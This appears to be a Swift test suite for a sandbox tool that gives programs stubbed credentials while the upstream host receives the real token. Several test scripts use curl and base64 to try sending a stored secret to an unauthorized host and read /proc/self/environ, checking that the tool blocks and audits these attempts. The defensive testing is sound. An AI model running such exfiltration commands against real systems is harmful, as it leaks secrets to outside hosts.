import Glibc
import LinuxKernel
import TestSupport
import Testing

/// Credentials through the built programs: the command holds stubs, the upstream receives the real value.
@Suite struct CredentialTests {
    private static let secret = "real-0a9b8c7d6e5f4A3B2C1D-value"

    /// A place with a stored secret, a grant of it for one host, and another host whose requests are judged.
    private func place(_ identity: TestIdentity) throws -> (place: Sandboxed, upstream: EchoUpstream) {
        let place = try Sandboxed(identity)
        let upstream = try EchoUpstream(place)
        let hosts = EchoUpstream.names.map { "\"\($0)\" = \"127.0.0.1:\(upstream.port)\"" }.joined(separator: "\n")
        try place.write(
            place.coopHome + "/config.toml",
            """
            [network]
            mode = "scoped"
            ca = ["\(upstream.certificate)"]
            [[network.rules]]
            host = "other.coop-test.example"
            methods = ["GET", "POST"]
            action = "allow"
            [network.hosts]
            \(hosts)

            """, mode: 0o600)
        try expect(place.coop(["secret", "add", "--global", "EXAMPLE_TOKEN"], input: .bytes(Array(CredentialTests.secret.utf8))))
        try expect(
            place.coop([
                "grant", "add", "example", "--domain", "api.coop-test.example", "--header", "Authorization", "--template",
                "Bearer {value}", "--secret", "EXAMPLE_TOKEN",
            ]))
        return (place, upstream)
    }

    private func expect(_ outcome: ChildProcess.Outcome) throws {
        guard outcome.exitCode == 0 else { throw TestSupportError("\(outcome)") }
    }

    private func audit(_ place: Sandboxed) throws -> String {
        var text = ""
        for file in try FileSystem.list(place.coopHome + "/audit").sorted() where file.hasSuffix(".jsonl") {
            text += String(decoding: try FileSystem.read(place.coopHome + "/audit/" + file), as: UTF8.self)
        }
        return text
    }

    @Test("the upstream gets the real value once, and nothing inside ever holds it", arguments: TestIdentity.all)
    func injected(_ identity: TestIdentity) throws {
        let (place, upstream) = try place(identity)
        let outcome = try place.shell(
            """
            echo "stub $EXAMPLE_TOKEN"; cat /proc/self/environ | tr '\\0' '\\n'
            curl -sSi --http1.1 -H "Authorization: Bearer $EXAMPLE_TOKEN" -d "note=$EXAMPLE_TOKEN" https://api.coop-test.example/first
            curl -sS -o /dev/null -w '%{http_code}' https://api.coop-test.example/absent
            """)
        #expect(outcome.exitCode == 0, "\(outcome)")
        let stub = try #require(outcome.output.split(separator: "\n").first?.split(separator: " ").last.map(String.init))
        #expect(stub.contains("CoopStub") && !outcome.output.contains(CredentialTests.secret), "\(outcome)")
        #expect(!outcome.error.contains(CredentialTests.secret))
        // The response repeats the field twice, in its head and in its body, and the body's stub once.
        #expect(outcome.output.components(of: "Bearer \(stub)") == 2 && outcome.output.contains("note=\(stub)"), "\(outcome)")
        #expect(outcome.output.hasSuffix("200"))
        let seen = try upstream.received(until: "/absent")
        let first = seen.prefix(upTo: try #require(seen.firstRange(of: "/absent")).lowerBound)
        #expect(String(first).components(of: CredentialTests.secret) == 1, "\(seen)")
        #expect(first.contains("note=\(stub)"), "a stub stays what it is where the grant names no place")
        // A request without a credential gets it as well.
        #expect(try upstream.received(until: "Bearer \(CredentialTests.secret)\n").components(of: CredentialTests.secret) >= 1)
        let record = try audit(place)
        #expect(record.contains(#""inject""#) && record.contains("example") && !record.contains(CredentialTests.secret), "\(record)")
        #expect(record.contains("stubLeaving") == false)
        #expect(try place.coop(["audit", "verify"]).exitCode == 0)
        #expect(try place.remains() == [])
    }

    @Test("a credential of somebody else's does not reach a host that has a grant", arguments: TestIdentity.all)
    func foreign(_ identity: TestIdentity) throws {
        let (place, upstream) = try place(identity)
        let outcome = try place.shell(
            """
            curl -sSi -H 'Authorization: Bearer not-yours' https://api.coop-test.example/foreign
            curl -sSi -u me:not-yours https://api.coop-test.example/basic
            curl -sSi "https://api.coop-test.example/query?api_key=not-yours"
            curl -sS https://api.coop-test.example/marker
            """)
        #expect(outcome.output.components(of: " 403") == 3 && outcome.output.lowercased().contains("x-coop-denied: grant"), "\(outcome)")
        let seen = try upstream.received(until: "/marker")
        #expect(!seen.contains("not-yours") && !seen.contains("/foreign"))
        let record = try audit(place)
        #expect(record.contains("foreignCredential") && !record.contains("not-yours"), "\(record)")
    }

    @Test("the real value does not leave to another host, in a body, a field or a target, plain or encoded", arguments: TestIdentity.all)
    func leaving(_ identity: TestIdentity) throws {
        let (place, upstream) = try place(identity)
        try place.write("known", CredentialTests.secret)
        let outcome = try place.shell(
            """
            url=https://other.coop-test.example
            curl -sSi --data-binary @known $url/body
            curl -sSi -H "X-Note: $(cat known)" $url/field
            curl -sSi "$url/target/$(cat known)"
            base64 -w0 known | curl -sSi --data-binary @- $url/base64
            curl -sSi -H "X-Stub: $EXAMPLE_TOKEN" $url/stub
            """)
        #expect(outcome.output.components(of: " 403 ") + outcome.output.components(of: " 403\r") == 4, "\(outcome)")
        let seen = try upstream.received(until: "/stub")
        #expect(!seen.contains(CredentialTests.secret), "\(seen)")
        #expect(seen.contains("CoopStub"), "a stub is worth nothing and may leave")
        let record = try audit(place)
        #expect(record.components(of: "secretLeaving") == 4 && record.contains("the secret `example` in the target"), "\(record)")
        #expect(record.contains("stubLeaving") && !record.contains(CredentialTests.secret))
        #expect(try place.coop(["audit", "verify"]).exitCode == 0)
    }

    @Test("a credential is not sent in clear text")
    func clearText() throws {
        let (place, upstream) = try place(TestIdentity.all[0])
        let outcome = try place.shell(
            "curl -sSi http://api.coop-test.example:443/clear; curl -sS https://other.coop-test.example/marker")
        #expect(outcome.output.contains(" 403") && outcome.output.contains("a credential is not sent without TLS"), "\(outcome)")
        #expect(try !upstream.received(until: "/marker").contains("/clear"))
    }

    @Test("a repository does not say where a credential goes")
    func misled() throws {
        let (place, upstream) = try place(TestIdentity.all[0])
        let user = place.coopHome + "/config.toml"
        let text = String(decoding: try FileSystem.read(user), as: UTF8.self)
        try place.write(user, text.replacing("\"api.coop-test.example\" = \"127.0.0.1:\(upstream.port)\"\n", with: ""), mode: 0o600)
        try place.write(
            "coop.toml", "name = \"x\"\n[network.hosts]\n\"api.coop-test.example\" = \"127.0.0.1:\(upstream.port)\"\n")
        try expect(place.coop(["trust", "--yes"]))
        let outcome = try place.shell(
            "curl -sSi https://api.coop-test.example/misled; curl -sS https://other.coop-test.example/marker")
        #expect(outcome.error.contains("does not apply: a repository does not say where a credential goes"), "\(outcome)")
        let seen = try upstream.received(until: "/marker")
        #expect(outcome.output.contains(" 502") && !seen.contains("/misled"), "\(outcome)")
    }

    @Test("what the user sets with -e wins over a stub, and a grant whose secret is missing does not start")
    func environment() throws {
        let (place, _) = try place(TestIdentity.all[0])
        #expect(try place.shell("echo $EXAMPLE_TOKEN", options: ["-e", "EXAMPLE_TOKEN=mine"]).output == "mine\n")
        #expect(try place.shell("echo \"[$EXAMPLE_TOKEN]\"", options: ["--network", "none"]).output == "[]\n")
        try expect(place.coop(["secret", "rm", "--global", "EXAMPLE_TOKEN"]))
        let outcome = try place.shell("echo started")
        #expect(
            outcome.exitCode != 0 && outcome.output.isEmpty && outcome.error.contains("example")
                && outcome.error.contains("coop secret add EXAMPLE_TOKEN"), "\(outcome)")
    }
}

extension String {
    /// How often a text stands in it.
    fileprivate func components(of text: String) -> Int { split(separator: text, omittingEmptySubsequences: false).count - 1 }
}
